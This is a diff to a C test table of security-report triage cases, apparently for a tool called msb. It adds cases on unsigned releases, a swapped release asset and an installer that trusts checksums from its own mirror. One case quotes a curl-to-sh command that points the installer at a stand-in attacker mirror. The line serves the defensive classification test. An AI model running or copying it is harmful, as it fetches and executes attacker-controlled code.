@@ -3028,6 +3028,24 @@ static const OosCase oos_cases[] = {
 	  "A second unprivileged account on the build server can run msb inspect --json on my sandbox\n"
 	  "and read every --secret value in clear text. Admittedly the attacker already has a shell as\n"
 	  "another user on the box, but that user must never see my keys.", TRUE, "", "secret_leakage" },
+	/* (issue #3) releases shipped without a signature or provenance, and
+	 * the writer's word that nothing was tampered with: a missing
+	 * safeguard, hardening; a signature that fails on a swapped asset is
+	 * a finding */
+	{ "Release zips carry nothing to verify",
+	  "The zip files on the download page have no cosign signature and no build provenance, only a\n"
+	  "checksum list uploaded next to them by the same job. I'm not claiming anything was tampered\n"
+	  "with, it is a suggestion: sign the checksum list.", FALSE, "hardening", NULL },
+	{ "Release asset swapped after publication",
+	  "The x86_64 tarball of the last release was replaced a week after it went out: its sha256 no\n"
+	  "longer matches what our mirror stored and minisign -Vm fails against the published key.",
+	  TRUE, "", "supply_chain" },
+	{ "Installer takes the sums from the mirror it downloads from",
+	  "install.sh fetches the tarball and its checksum list from the same mirror and does no\n"
+	  "signature check, against best practice, so whoever controls that mirror serves a binary\n"
+	  "that installs cleanly:\n"
+	  "    curl -fsSL https://get.example/install.sh | MSB_MIRROR=https://evil.example sh",
+	  TRUE, "", ANY_CLASS },
 	/* (issue #3) no time to verify a scanner's findings: theoretical */
 	{ "Static analysis findings in msb-fsd",
 	  "Our code scanner flagged a tainted path join in msb-fsd that might let a guest open files\n"
